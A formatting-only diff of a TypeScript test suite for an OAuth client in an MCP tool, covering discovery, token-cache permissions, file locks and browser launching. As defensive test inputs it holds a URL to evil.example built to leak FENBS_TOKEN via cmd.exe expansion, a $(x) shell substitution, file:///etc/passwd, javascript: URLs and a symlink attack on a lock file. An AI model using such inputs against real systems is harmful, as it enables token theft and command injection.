@@ -3,7 +3,20 @@
 import { once } from 'node:events';
 import { createServer, type IncomingMessage, type ServerResponse } from 'node:http';
 import { connect, type AddressInfo } from 'node:net';
-import { chmodSync, chownSync, lstatSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync, symlinkSync, utimesSync, writeFileSync } from 'node:fs';
+import {
+  chmodSync,
+  chownSync,
+  lstatSync,
+  mkdirSync,
+  mkdtempSync,
+  readdirSync,
+  readFileSync,
+  rmSync,
+  statSync,
+  symlinkSync,
+  utimesSync,
+  writeFileSync,
+} from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { pino } from 'pino';
@@ -52,7 +65,10 @@ async function serve(route: (req: IncomingMessage, res: ServerResponse, origin: 
 
 describe('discovery', () => {
   it('tries the path-aware protected-resource URL first, then the root (RFC 9728 §3)', () => {
-    expect(resourceMetadataUrls(new URL('https://a.example/v1/mcp')).map(String)).toEqual(['https://a.example/.well-known/oauth-protected-resource/v1/mcp', 'https://a.example/.well-known/oauth-protected-resource']);
+    expect(resourceMetadataUrls(new URL('https://a.example/v1/mcp')).map(String)).toEqual([
+      'https://a.example/.well-known/oauth-protected-resource/v1/mcp',
+      'https://a.example/.well-known/oauth-protected-resource',
+    ]);
     expect(resourceMetadataUrls(new URL('https://a.example/')).map(String)).toEqual(['https://a.example/.well-known/oauth-protected-resource']);
   });
 
@@ -62,11 +78,18 @@ describe('discovery', () => {
       'https://as.example/.well-known/openid-configuration/tenant1',
       'https://as.example/tenant1/.well-known/openid-configuration',
     ]);
-    expect(authorizationServerMetadataUrls(new URL('https://as.example')).map(String)).toEqual(['https://as.example/.well-known/oauth-authorization-server', 'https://as.example/.well-known/openid-configuration']);
+    expect(authorizationServerMetadataUrls(new URL('https://as.example')).map(String)).toEqual([
+      'https://as.example/.well-known/oauth-authorization-server',
+      'https://as.example/.well-known/openid-configuration',
+    ]);
   });
 
   it('reads resource_metadata, scope and error from a Bearer challenge and ignores other schemes', async () => {
-    expect(await parseBearerChallenge('Basic realm="x", Bearer error="insufficient_scope", scope="a b", resource_metadata="https://r.example/.well-known/oauth-protected-resource"')).toEqual({
+    expect(
+      await parseBearerChallenge(
+        'Basic realm="x", Bearer error="insufficient_scope", scope="a b", resource_metadata="https://r.example/.well-known/oauth-protected-resource"',
+      ),
+    ).toEqual({
       bearer: true,
       error: 'insufficient_scope',
       scope: 'a b',
@@ -96,13 +119,18 @@ describe('discovery', () => {
       else res.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify(body));
     });
     const http = createOAuthHttp(dispatcher(), false);
-    await expect(discover(http, new URL(`${origin}/mcp`), await parseBearerChallenge('Bearer'), AbortSignal.timeout(5000))).rejects.toMatchObject({ code: 'AUTH_REQUIRED', message: expect.stringMatching(/S256/) });
+    await expect(discover(http, new URL(`${origin}/mcp`), await parseBearerChallenge('Bearer'), AbortSignal.timeout(5000))).rejects.toMatchObject({
+      code: 'AUTH_REQUIRED',
+      message: expect.stringMatching(/S256/),
+    });
   });
 
   it('says the server offers no sign-in when no protected-resource metadata exists', async () => {
     const origin = await serve((_req, res) => res.writeHead(404).end());
     const http = createOAuthHttp(dispatcher(), false);
-    await expect(discover(http, new URL(`${origin}/mcp`), await parseBearerChallenge('Bearer'), AbortSignal.timeout(5000))).rejects.toMatchObject({ message: expect.stringMatching(/no usable OAuth protected-resource metadata/) });
+    await expect(discover(http, new URL(`${origin}/mcp`), await parseBearerChallenge('Bearer'), AbortSignal.timeout(5000))).rejects.toMatchObject({
+      message: expect.stringMatching(/no usable OAuth protected-resource metadata/),
+    });
   });
 });
 
@@ -115,12 +143,18 @@ describe('discovery against scripted metadata', () => {
       else res.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify(doc(origin)));
     });
   }
-  const run = async (origin: string, header = 'Bearer') => discover(createOAuthHttp(dispatcher(), false), new URL(`${origin}/mcp`), await parseBearerChallenge(header), AbortSignal.timeout(5000));
+  const run = async (origin: string, header = 'Bearer') =>
+    discover(createOAuthHttp(dispatcher(), false), new URL(`${origin}/mcp`), await parseBearerChallenge(header), AbortSignal.timeout(5000));
 
   it('follows resource_metadata from the challenge, and falls back from RFC 8414 to OpenID Connect discovery', async () => {
     const origin = await metadata({
       '/custom-prm': (o) => ({ resource: `${o}/`, authorization_servers: [`${o}/tenant`], scopes_supported: ['s1'] }),
-      '/.well-known/openid-configuration/tenant': (o) => ({ issuer: `${o}/tenant`, authorization_endpoint: `${o}/a`, token_endpoint: `${o}/t`, code_challenge_methods_supported: ['S256'] }),
+      '/.well-known/openid-configuration/tenant': (o) => ({
+        issuer: `${o}/tenant`,
+        authorization_endpoint: `${o}/a`,
+        token_endpoint: `${o}/t`,
+        code_challenge_methods_supported: ['S256'],
+      }),
     });
     const found = await run(origin, `Bearer resource_metadata="${origin}/custom-prm"`);
     expect(found).toMatchObject({ resource: new URL(`${origin}/`), scopesSupported: ['s1'], as: { issuer: `${origin}/tenant` } });
@@ -139,7 +173,9 @@ describe('discovery against scripted metadata', () => {
   });
 
   it('refuses protected-resource metadata for another resource', async () => {
-    const origin = await metadata({ '/.well-known/oauth-protected-resource/mcp': () => ({ resource: 'https://other.example/mcp', authorization_servers: ['https://as.example'] }) });
+    const origin = await metadata({
+      '/.well-known/oauth-protected-resource/mcp': () => ({ resource: 'https://other.example/mcp', authorization_servers: ['https://as.example'] }),
+    });
     await expect(run(origin)).rejects.toMatchObject({ message: expect.stringMatching(/no usable OAuth protected-resource metadata/) });
   });
 });
@@ -153,7 +189,11 @@ describe('token cache', () => {
 
   it('reads a damaged entry as absent and keeps the well-formed ones', () => {
     const store = new TokenStore(tempDir(), new URL('https://a.example/mcp'));
-    store.write({ server: 'https://a.example/mcp', issuer: 'https://as', issuers: { 'https://as': { resource: 'https://a.example/mcp', tokens: { accessToken: 'abcd', obtainedAt: 1 } }, bad: { resource: 3 } as never } });
+    store.write({
+      server: 'https://a.example/mcp',
+      issuer: 'https://as',
+      issuers: { 'https://as': { resource: 'https://a.example/mcp', tokens: { accessToken: 'abcd', obtainedAt: 1 } }, bad: { resource: 3 } as never },
+    });
     expect(Object.keys(store.read().issuers)).toEqual(['https://as']);
     writeFileSync(store.file, JSON.stringify({ version: 1, server: 'https://other/mcp', issuers: {} }));
     expect(store.read().issuers).toEqual({});
@@ -170,7 +210,12 @@ describe('token cache', () => {
   it('tells doctor whether a cached token is valid, refreshable or expired', () => {
     const store = new TokenStore(tempDir(), new URL('https://a.example/mcp'));
     expect(cachedState(store, 0)).toEqual({ kind: 'none' });
-    const save = (tokens: object) => store.write({ server: 'https://a.example/mcp', issuer: 'https://as', issuers: { 'https://as': { resource: 'https://a.example/mcp', tokens: { accessToken: 'x', obtainedAt: 0, ...tokens } } } });
+    const save = (tokens: object) =>
+      store.write({
+        server: 'https://a.example/mcp',
+        issuer: 'https://as',
+        issuers: { 'https://as': { resource: 'https://a.example/mcp', tokens: { accessToken: 'x', obtainedAt: 0, ...tokens } } },
+      });
     save({ expiresAt: 10 });
     expect(cachedState(store, 5)).toMatchObject({ kind: 'valid', expiresAt: 10 });
     expect(cachedState(store, 20)).toMatchObject({ kind: 'expired' });
@@ -179,7 +224,9 @@ describe('token cache', () => {
   });
 
   it('keeps the newest refresh token, and the old one only when none came', () => {
-    expect(toStoredTokens({ access_token: 'a2', token_type: 'bearer', expires_in: 10 }, 1000, { accessToken: 'a1', refreshToken: 'r1', obtainedAt: 0, scope: 's' })).toEqual({ accessToken: 'a2', refreshToken: 'r1', expiresAt: 11_000, obtainedAt: 1000, scope: 's' });
+    expect(
+      toStoredTokens({ access_token: 'a2', token_type: 'bearer', expires_in: 10 }, 1000, { accessToken: 'a1', refreshToken: 'r1', obtainedAt: 0, scope: 's' }),
+    ).toEqual({ accessToken: 'a2', refreshToken: 'r1', expiresAt: 11_000, obtainedAt: 1000, scope: 's' });
     expect(toStoredTokens({ access_token: 'a2', token_type: 'bearer', refresh_token: 'r2' }, 0).refreshToken).toBe('r2');
   });
 
@@ -218,7 +265,16 @@ describe('token cache', () => {
     // Told once, though the cache is read for every renewal.
     store.read();
     expect(warnings).toHaveLength(3);
-    const credential = new OAuthCredential({ url: new URL(server), allowHttp: false, settings: parseOAuthSettings({}, {}, () => ''), logger: silent, env: { FENBS_MCP_HOME: dir }, registerSecret: () => undefined, dispatcher: dispatcher(), writeStderr: () => undefined });
+    const credential = new OAuthCredential({
+      url: new URL(server),
+      allowHttp: false,
+      settings: parseOAuthSettings({}, {}, () => ''),
+      logger: silent,
+      env: { FENBS_MCP_HOME: dir },
+      registerSecret: () => undefined,
+      dispatcher: dispatcher(),
+      writeStderr: () => undefined,
+    });
     expect(credential.authorization()).toBeUndefined();
   });
 
@@ -264,7 +320,9 @@ describe('token cache', () => {
     const before = readFileSync(store.file, 'utf8');
     chmodSync(join(dir, 'oauth'), 0o777);
     expect(store.read().issuers).toEqual({});
-    expect(warnings).toEqual([`the OAuth token cache folder ${join(dir, 'oauth')} can be written by other users (mode 0777): fenbs-mcp neither reads tokens from it nor writes tokens into it`]);
+    expect(warnings).toEqual([
+      `the OAuth token cache folder ${join(dir, 'oauth')} can be written by other users (mode 0777): fenbs-mcp neither reads tokens from it nor writes tokens into it`,
+    ]);
     expect(() => store.write({ server, issuers: {} })).toThrow(/can be written by other users \(mode 0777\)/);
     expect(() => store.ensureDirectory()).toThrow(expect.objectContaining({ code: 'AUTH_REQUIRED', context: { hint: expect.stringMatching(/chmod 700/) } }));
     expect(readFileSync(store.file, 'utf8')).toBe(before);
@@ -285,7 +343,9 @@ describe('token cache', () => {
     expect(store.read().issuers).toEqual({});
     expect(warnings.at(-1)).toBe(`the OAuth token cache ${store.file} is not used: it belongs to another user (uid 65534, not 0)`);
     chownSync(join(dir, 'oauth'), 65534, 65534);
-    expect(() => store.write({ server, issuers: {} })).toThrow(`the OAuth token cache folder ${join(dir, 'oauth')} belongs to another user (uid 65534, not 0): fenbs-mcp neither reads tokens from it nor writes tokens into it`);
+    expect(() => store.write({ server, issuers: {} })).toThrow(
+      `the OAuth token cache folder ${join(dir, 'oauth')} belongs to another user (uid 65534, not 0): fenbs-mcp neither reads tokens from it nor writes tokens into it`,
+    );
     chownSync(join(dir, 'oauth'), 0, 0);
     chownSync(store.file, 0, 0);
     chmodSync(store.file, 0o622);
@@ -325,7 +385,10 @@ describe('token cache', () => {
     expect(store.read().issuers).toEqual({});
     writeFileSync(store.file, '{ not json', { mode: 0o600 });
     expect(store.read().issuers).toEqual({});
-    expect(warnings).toEqual([`the OAuth token cache ${store.file} is not used: it is larger than ${MAX_CACHE_FILE_BYTES} bytes`, `the OAuth token cache ${store.file} is not used: it is not valid JSON`]);
+    expect(warnings).toEqual([
+      `the OAuth token cache ${store.file} is not used: it is larger than ${MAX_CACHE_FILE_BYTES} bytes`,
+      `the OAuth token cache ${store.file} is not used: it is not valid JSON`,
+    ]);
   });
 });
 
@@ -341,7 +404,16 @@ describe('client bindings in the token cache', () => {
     expect(kept[0]).toEqual({ clientId: 'client-4', issuer: 'https://as.example' });
     expect(kept.at(-1)).toEqual({ clientId: 'client-10', issuer: 'https://moved.example' });
     expect(kept.filter((binding) => binding.clientId === 'client-10')).toHaveLength(1);
-    store.write({ server, issuers: {}, clientBindings: [{ clientId: 'ok', issuer: 'https://as.example' }, { clientId: '', issuer: 'https://as.example' }, { clientId: 'x', issuer: 'not a url' }, 'junk' as never] });
+    store.write({
+      server,
+      issuers: {},
+      clientBindings: [
+        { clientId: 'ok', issuer: 'https://as.example' },
+        { clientId: '', issuer: 'https://as.example' },
+        { clientId: 'x', issuer: 'not a url' },
+        'junk' as never,
+      ],
+    });
     expect(store.read().clientBindings).toEqual([{ clientId: 'ok', issuer: 'https://as.example' }]);
   });
 });
@@ -357,7 +429,9 @@ describe('cross-process lock', () => {
     const path = join(tempDir(), 'x.lock');
     writeFileSync(path, JSON.stringify({ pid: process.ppid, host: (await import('node:os')).hostname(), at: Date.now(), nonce: 'other' }));
     let told = false;
-    await expect(withFileLock(path, { waitMs: 60, staleMs: 60_000, signal: AbortSignal.timeout(5000), onWait: () => (told = true) }, () => Promise.resolve())).rejects.toBeInstanceOf(LockTimeoutError);
+    await expect(
+      withFileLock(path, { waitMs: 60, staleMs: 60_000, signal: AbortSignal.timeout(5000), onWait: () => (told = true) }, () => Promise.resolve()),
+    ).rejects.toBeInstanceOf(LockTimeoutError);
     expect(told).toBe(true);
     // Not ours: left in place.
     expect(JSON.parse(readFileSync(path, 'utf8')).nonce).toBe('other');
@@ -371,7 +445,9 @@ describe('cross-process lock against what else may lie at its path', () => {
     writeFileSync(victim, 'precious');
     const path = join(dir, 'x.lock');
     symlinkSync(victim, path);
-    expect(await withFileLock(path, { waitMs: 1000, staleMs: 60_000, signal: AbortSignal.timeout(5000) }, () => Promise.resolve(lstatSync(path).isFile()))).toBe(true);
+    expect(
+      await withFileLock(path, { waitMs: 1000, staleMs: 60_000, signal: AbortSignal.timeout(5000) }, () => Promise.resolve(lstatSync(path).isFile())),
+    ).toBe(true);
     expect(readFileSync(victim, 'utf8')).toBe('precious');
     expect(readdirSync(dir)).toEqual(['victim']);
   });
@@ -384,13 +460,17 @@ describe('cross-process lock against what else may lie at its path', () => {
     writeFileSync(path, 'garbage');
     const future = new Date(Date.now() + 86_400_000);
     utimesSync(path, future, future);
-    expect(await withFileLock(path, { waitMs: 1000, staleMs: 60_000, signal: AbortSignal.timeout(5000) }, () => Promise.resolve('ran again'))).toBe('ran again');
+    expect(await withFileLock(path, { waitMs: 1000, staleMs: 60_000, signal: AbortSignal.timeout(5000) }, () => Promise.resolve('ran again'))).toBe(
+      'ran again',
+    );
   });
 
   it('waits for an unreadable lock file written just now (its writer may be between creating and filling it)', async () => {
     const path = join(tempDir(), 'x.lock');
     writeFileSync(path, '');
-    await expect(withFileLock(path, { waitMs: 60, staleMs: 60_000, signal: AbortSignal.timeout(5000) }, () => Promise.resolve())).rejects.toBeInstanceOf(LockTimeoutError);
+    await expect(withFileLock(path, { waitMs: 60, staleMs: 60_000, signal: AbortSignal.timeout(5000) }, () => Promise.resolve())).rejects.toBeInstanceOf(
+      LockTimeoutError,
+    );
     expect(readFileSync(path, 'utf8')).toBe('');
   });
 });
@@ -398,13 +478,18 @@ describe('cross-process lock against what else may lie at its path', () => {
 describe('browser opener', () => {
   it('runs $BROWSER through the shell with the URL as one argument, else the system opener', () => {
     const url = 'https://as.example/auth?a=1&b=$(x)';
-    expect(openerCommand(url, { BROWSER: 'firefox --new-window' }, 'linux')).toEqual({ file: '/bin/sh', args: ['-c', 'firefox --new-window "$1"', 'fenbs-mcp-browser', url], env: {}, windowsVerbatimArguments: false });
+    expect(openerCommand(url, { BROWSER: 'firefox --new-window' }, 'linux')).toEqual({
+      file: '/bin/sh',
+      args: ['-c', 'firefox --new-window "$1"', 'fenbs-mcp-browser', url],
+      env: {},
+      windowsVerbatimArguments: false,
+    });
     expect(openerCommand(url, {}, 'linux')).toMatchObject({ file: 'xdg-open', args: [url] });
     expect(openerCommand(url, {}, 'darwin')).toMatchObject({ file: 'open', args: [url] });
     expect(openerCommand(url, {}, 'win32')).toMatchObject({ file: 'rundll32', args: ['url.dll,FileProtocolHandler', url] });
   });
 
-  it('hands the URL to cmd.exe in a variable, so a %NAME% in it never becomes the value of one of the user\'s variables', () => {
+  it("hands the URL to cmd.exe in a variable, so a %NAME% in it never becomes the value of one of the user's variables", () => {
     // cmd.exe expands %NAME% inside quotes too: written into the line, this URL would carry FENBS_TOKEN.
     const url = 'https://evil.example/?t=%FENBS_TOKEN%&u=!FENBS_TOKEN!';
     const command = openerCommand(url, { BROWSER: '"C:\\Program Files\\Firefox\\firefox.exe" -new-window' }, 'win32');
@@ -418,7 +503,14 @@ describe('browser opener', () => {
   });
 
   it('opens only canonical https URLs, and http to this machine, without a user name', () => {
-    for (const url of ['https://as.example/authorize?client_id=a&state=b', 'https://xn--e1afmkfd.xn--p1ai/auth', 'http://127.0.0.1:8080/authorize', 'http://localhost/a', 'http://[::1]:9/a']) expect(openableUrlProblem(url), url).toBeUndefined();
+    for (const url of [
+      'https://as.example/authorize?client_id=a&state=b',
+      'https://xn--e1afmkfd.xn--p1ai/auth',
+      'http://127.0.0.1:8080/authorize',
+      'http://localhost/a',
+      'http://[::1]:9/a',
+    ])
+      expect(openableUrlProblem(url), url).toBeUndefined();
     const refused: [string, RegExp][] = [
       ['file:///etc/passwd', /scheme is file:/],
       ['javascript:alert(1)', /scheme is javascript:/],
@@ -440,8 +532,21 @@ describe('browser opener', () => {
   });
 
   it('opens plain http only to a loopback address or localhost itself, never to a *.localhost name the resolver may send elsewhere', () => {
-    for (const url of ['http://127.0.0.1/authorize', 'http://127.8.9.10:8080/authorize', 'http://[::1]/authorize', 'http://localhost/authorize', 'http://localhost:3000/authorize']) expect(openableUrlProblem(url), url).toBeUndefined();
-    for (const url of ['http://evil.localhost/authorize', 'http://127.0.0.1.localhost/authorize', 'http://localhost./authorize', 'http://[::ffff:127.0.0.1]/authorize', 'http://0.0.0.0/authorize']) {
+    for (const url of [
+      'http://127.0.0.1/authorize',
+      'http://127.8.9.10:8080/authorize',
+      'http://[::1]/authorize',
+      'http://localhost/authorize',
+      'http://localhost:3000/authorize',
+    ])
+      expect(openableUrlProblem(url), url).toBeUndefined();
+    for (const url of [
+      'http://evil.localhost/authorize',
+      'http://127.0.0.1.localhost/authorize',
+      'http://localhost./authorize',
+      'http://[::ffff:127.0.0.1]/authorize',
+      'http://0.0.0.0/authorize',
+    ]) {
       expect(openableUrlProblem(url), url).toMatch(/http: to a host other than this machine/);
     }
     // Over https the name is the certificate's to vouch for, whatever it resolves to.
@@ -451,7 +556,9 @@ describe('browser opener', () => {
   it('refuses, starting nothing, a URL that may not be opened, whoever hands it over', () => {
     const errors: string[] = [];
     for (const url of ['javascript:alert(1)', 'file:///etc/passwd', 'http://evil.example/']) {
-      expect(() => openBrowser(url, { env: { BROWSER: 'true' }, platform: 'linux', onError: (message) => errors.push(message) }), url).toThrow(expect.objectContaining({ code: 'AUTH_REQUIRED', message: expect.stringMatching(/^refused to open .* in the browser: /) }));
+      expect(() => openBrowser(url, { env: { BROWSER: 'true' }, platform: 'linux', onError: (message) => errors.push(message) }), url).toThrow(
+        expect.objectContaining({ code: 'AUTH_REQUIRED', message: expect.stringMatching(/^refused to open .* in the browser: /) }),
+      );
     }
     expect(errors).toEqual([]);
   });
@@ -462,7 +569,9 @@ describe('browser opener', () => {
     openBrowser('https://as.example/auth', { env: { BROWSER: 'true', BROKEN: 'a\0b' }, platform: 'linux', onError: (message) => told.push(message) });
     expect(told).toEqual([expect.stringMatching(/^could not start \/bin\/sh: /)]);
     // No `open` on this machine (darwin's opener, asked on Linux): the child's error event.
-    const missing = await new Promise<string>((resolve) => openBrowser('https://as.example/auth', { env: { PATH: '/nonexistent' }, platform: 'darwin', onError: resolve }));
+    const missing = await new Promise<string>((resolve) =>
+      openBrowser('https://as.example/auth', { env: { PATH: '/nonexistent' }, platform: 'darwin', onError: resolve }),
+    );
     expect(missing).toMatch(/^could not start open: .*ENOENT/);
   });
 });
@@ -471,7 +580,8 @@ describe('the one rule for OAuth requests', () => {
   /** An Agent that connects every host name to 127.0.0.1 (real sockets), so a loopback server plays as.example. */
   function everyNameOnLoopback(): Dispatcher {
     type Lookup = (hostname: string, options: { all?: boolean }, callback: (...args: unknown[]) => void) => void;
-    const lookup: Lookup = (_hostname, options, callback) => (options.all === true ? callback(null, [{ address: '127.0.0.1', family: 4 }]) : callback(null, '127.0.0.1', 4));
+    const lookup: Lookup = (_hostname, options, callback) =>
+      options.all === true ? callback(null, [{ address: '127.0.0.1', family: 4 }]) : callback(null, '127.0.0.1', 4);
     const agent = new Agent({ connect: { lookup } } as never) as unknown as Dispatcher;
     cleanups.push(() => agent.close());
     return agent;
@@ -503,9 +613,16 @@ describe('the one rule for OAuth requests', () => {
     const url = `http://as.example:${port}/.well-known/oauth-authorization-server?secret=s3cr3t-value`;
     const refusal = createOAuthHttp(everyNameOnLoopback(), false).fetch(url, {});
     await expect(refusal).rejects.toBeInstanceOf(RefusedOAuthUrlError);
-    await expect(refusal).rejects.toMatchObject({ code: 'AUTH_REQUIRED', message: expect.stringMatching(new RegExp(`^refused an OAuth request to http://as\\.example:${port}/\\.well-known/oauth-authorization-server\\?secret=\\*+: plain http`)) });
+    await expect(refusal).rejects.toMatchObject({
+      code: 'AUTH_REQUIRED',
+      message: expect.stringMatching(
+        new RegExp(`^refused an OAuth request to http://as\\.example:${port}/\\.well-known/oauth-authorization-server\\?secret=\\*+: plain http`),
+      ),
+    });
     await expect(refusal).rejects.not.toMatchObject({ message: expect.stringContaining('s3cr3t-value') });
-    await expect(createOAuthHttp(everyNameOnLoopback(), true).fetch('file:///etc/passwd', {})).rejects.toMatchObject({ message: expect.stringMatching(/scheme is file:/) });
+    await expect(createOAuthHttp(everyNameOnLoopback(), true).fetch('file:///etc/passwd', {})).rejects.toMatchObject({
+      message: expect.stringMatching(/scheme is file:/),
+    });
     expect(hosts).toEqual([]);
     // The user's own statement that the network is trusted: the request is made.
     expect((await createOAuthHttp(everyNameOnLoopback(), true).fetch(url, {})).status).toBe(200);
@@ -517,19 +634,39 @@ describe('the one rule for OAuth requests', () => {
       path === '/.well-known/oauth-protected-resource/mcp'
         ? { resource: `http://127.0.0.1:${p}/mcp`, authorization_servers: [`http://as.example:${p}`] }
         : host === 'as.example' && path === '/.well-known/oauth-authorization-server'
-          ? { issuer: `http://as.example:${p}`, authorization_endpoint: `https://as.example/auth`, token_endpoint: `https://as.example/token`, code_challenge_methods_supported: ['S256'] }
+          ? {
+              issuer: `http://as.example:${p}`,
+              authorization_endpoint: `https://as.example/auth`,
+              token_endpoint: `https://as.example/token`,
+              code_challenge_methods_supported: ['S256'],
+            }
           : undefined,
     );
-    const run = async (allowHttp: boolean) => discover(createOAuthHttp(everyNameOnLoopback(), allowHttp), new URL(`http://127.0.0.1:${port}/mcp`), await parseBearerChallenge('Bearer'), AbortSignal.timeout(5000));
-    await expect(run(false)).rejects.toMatchObject({ code: 'AUTH_REQUIRED', message: expect.stringMatching(new RegExp(`^refused an OAuth request to http://as\\.example:${port}/\\.well-known/oauth-authorization-server: plain http`)) });
+    const run = async (allowHttp: boolean) =>
+      discover(
+        createOAuthHttp(everyNameOnLoopback(), allowHttp),
+        new URL(`http://127.0.0.1:${port}/mcp`),
+        await parseBearerChallenge('Bearer'),
+        AbortSignal.timeout(5000),
+      );
+    await expect(run(false)).rejects.toMatchObject({
+      code: 'AUTH_REQUIRED',
+      message: expect.stringMatching(
+        new RegExp(`^refused an OAuth request to http://as\\.example:${port}/\\.well-known/oauth-authorization-server: plain http`),
+      ),
+    });
     expect(hosts).toEqual(['127.0.0.1']);
     expect((await run(true)).as.issuer).toBe(`http://as.example:${port}`);
   });
 
   it('fetches no resource metadata over plain http from another host the challenge names', async () => {
-    const { port, hosts } = await anyHost((host, path, p) => (host === 'rm.example' ? { resource: `http://127.0.0.1:${p}/mcp`, authorization_servers: [`http://127.0.0.1:${p}`] } : undefined));
+    const { port, hosts } = await anyHost((host, path, p) =>
+      host === 'rm.example' ? { resource: `http://127.0.0.1:${p}/mcp`, authorization_servers: [`http://127.0.0.1:${p}`] } : undefined,
+    );
     const challenge = await parseBearerChallenge(`Bearer resource_metadata="http://rm.example:${port}/.well-known/oauth-protected-resource/mcp"`);
-    await expect(discover(createOAuthHttp(everyNameOnLoopback(), false), new URL(`http://127.0.0.1:${port}/mcp`), challenge, AbortSignal.timeout(5000))).rejects.toMatchObject({
+    await expect(
+      discover(createOAuthHttp(everyNameOnLoopback(), false), new URL(`http://127.0.0.1:${port}/mcp`), challenge, AbortSignal.timeout(5000)),
+    ).rejects.toMatchObject({
       code: 'AUTH_REQUIRED',
       message: expect.stringMatching(/^refused an OAuth request to http:\/\/rm\.example:\d+\/.*: plain http/),
     });
@@ -542,10 +679,21 @@ describe('the one rule for OAuth requests', () => {
         path === '/.well-known/oauth-protected-resource/mcp'
           ? { resource: `http://127.0.0.1:${p}/mcp`, authorization_servers: [`http://127.0.0.1:${p}`] }
           : path === '/.well-known/oauth-authorization-server'
-            ? { issuer: `http://127.0.0.1:${p}`, authorization_endpoint: `http://127.0.0.1:${p}/auth`, token_endpoint: `http://127.0.0.1:${p}/token`, code_challenge_methods_supported: ['S256'], ...endpoints }
+            ? {
+                issuer: `http://127.0.0.1:${p}`,
+                authorization_endpoint: `http://127.0.0.1:${p}/auth`,
+                token_endpoint: `http://127.0.0.1:${p}/token`,
+                code_challenge_methods_supported: ['S256'],
+                ...endpoints,
+              }
             : undefined,
       );
-      return discover(createOAuthHttp(everyNameOnLoopback(), false), new URL(`http://127.0.0.1:${port}/mcp`), await parseBearerChallenge('Bearer'), AbortSignal.timeout(5000));
+      return discover(
+        createOAuthHttp(everyNameOnLoopback(), false),
+        new URL(`http://127.0.0.1:${port}/mcp`),
+        await parseBearerChallenge('Bearer'),
+        AbortSignal.timeout(5000),
+      );
     };
     for (const name of ['token_endpoint', 'registration_endpoint', 'revocation_endpoint', 'device_authorization_endpoint']) {
       await expect(discoverWith({ [name]: 'http://as.example/endpoint' }), name).rejects.toMatchObject({
@@ -555,7 +703,9 @@ describe('the one rule for OAuth requests', () => {
     }
     await expect(discoverWith({ revocation_endpoint: 7 })).rejects.toMatchObject({ message: expect.stringMatching(/its revocation_endpoint is not a URL$/) });
     await expect(discoverWith({ token_endpoint: 'not a url' })).rejects.toMatchObject({ message: expect.stringMatching(/its token_endpoint is not a URL$/) });
-    await expect(discoverWith({ authorization_endpoint: 42 })).rejects.toMatchObject({ message: expect.stringMatching(/its authorization_endpoint 42 will not be opened in a browser: it is not a URL$/) });
+    await expect(discoverWith({ authorization_endpoint: 42 })).rejects.toMatchObject({
+      message: expect.stringMatching(/its authorization_endpoint 42 will not be opened in a browser: it is not a URL$/),
+    });
   });
 
   it('makes no plain http request to a *.localhost name, which the resolver may send off the machine, and makes one to a loopback address or localhost itself', async () => {
@@ -563,18 +713,24 @@ describe('the one rule for OAuth requests', () => {
     for (const host of ['evil.localhost', '127.0.0.1.localhost']) {
       const refusal = createOAuthHttp(everyNameOnLoopback(), false).fetch(`http://${host}:${port}/authorize`, {});
       await expect(refusal, host).rejects.toBeInstanceOf(RefusedOAuthUrlError);
-      await expect(refusal, host).rejects.toMatchObject({ code: 'AUTH_REQUIRED', message: expect.stringMatching(/: plain http:\/\/ to a host other than this machine/) });
+      await expect(refusal, host).rejects.toMatchObject({
+        code: 'AUTH_REQUIRED',
+        message: expect.stringMatching(/: plain http:\/\/ to a host other than this machine/),
+      });
     }
     expect(hosts).toEqual([]);
     expect(oauthUrlProblem(new URL('http://evil.localhost/token'), true)).toBeUndefined();
     expect(oauthUrlProblem(new URL('http://[::1]:9/token'), false)).toBeUndefined();
-    for (const host of ['127.0.0.1', 'localhost']) expect((await createOAuthHttp(everyNameOnLoopback(), false).fetch(`http://${host}:${port}/authorize`, {})).status, host).toBe(200);
+    for (const host of ['127.0.0.1', 'localhost'])
+      expect((await createOAuthHttp(everyNameOnLoopback(), false).fetch(`http://${host}:${port}/authorize`, {})).status, host).toBe(200);
     expect(hosts).toEqual(['127.0.0.1', 'localhost']);
   });
 
   it('follows no redirect on an OAuth request: a 3xx to http or another scheme comes back as it is', async () => {
     const { port, hosts } = await anyHost(() => ({ reached: true }));
-    const origin = await serve((req, res) => res.writeHead(req.url === '/a' ? 302 : 307, { location: req.url === '/a' ? `http://elsewhere.example:${port}/stolen` : 'file:///etc/passwd' }).end());
+    const origin = await serve((req, res) =>
+      res.writeHead(req.url === '/a' ? 302 : 307, { location: req.url === '/a' ? `http://elsewhere.example:${port}/stolen` : 'file:///etc/passwd' }).end(),
+    );
     const http = createOAuthHttp(everyNameOnLoopback(), true);
     expect((await http.fetch(`${origin}/a`, {})).status).toBe(302);
     expect((await http.fetch(`${origin}/b`, { method: 'POST', body: 'code=secret' })).status).toBe(307);
@@ -627,23 +783,37 @@ describe('loopback callback', () => {
 describe('OAuth options', () => {
   const read = (content: string) => () => content;
   it('takes the client secret from the environment or a file, never without a client id', () => {
-    expect(parseOAuthSettings({ oauthClientId: 'id' }, { FENBS_MCP_OAUTH_CLIENT_SECRET: 's3' }, read(''))).toMatchObject({ clientId: 'id', clientSecret: 's3', loginTimeoutMs: LOGIN_TIMEOUT_MS });
+    expect(parseOAuthSettings({ oauthClientId: 'id' }, { FENBS_MCP_OAUTH_CLIENT_SECRET: 's3' }, read(''))).toMatchObject({
+      clientId: 'id',
+      clientSecret: 's3',
+      loginTimeoutMs: LOGIN_TIMEOUT_MS,
+    });
     expect(parseOAuthSettings({ oauthClientId: 'id', oauthClientSecretFile: '/f' }, {}, read(' s4\n'))).toMatchObject({ clientSecret: 's4' });
     expect(() => parseOAuthSettings({}, { FENBS_MCP_OAUTH_CLIENT_SECRET: 's3' }, read(''))).toThrow(UsageError);
     expect(() => parseOAuthSettings({ oauthClientId: 'id', oauthClientSecretFile: '/f' }, {}, read(' '))).toThrow(/is empty/);
   });
   it('takes the one authorization server to use from --oauth-issuer, else FENBS_MCP_OAUTH_ISSUER, and refuses one that is no issuer URL', () => {
-    expect(parseOAuthSettings({ oauthIssuer: 'https://auth.example/tenant' }, { FENBS_MCP_OAUTH_ISSUER: 'https://other.example' }, read('')).issuer?.href).toBe('https://auth.example/tenant');
+    expect(parseOAuthSettings({ oauthIssuer: 'https://auth.example/tenant' }, { FENBS_MCP_OAUTH_ISSUER: 'https://other.example' }, read('')).issuer?.href).toBe(
+      'https://auth.example/tenant',
+    );
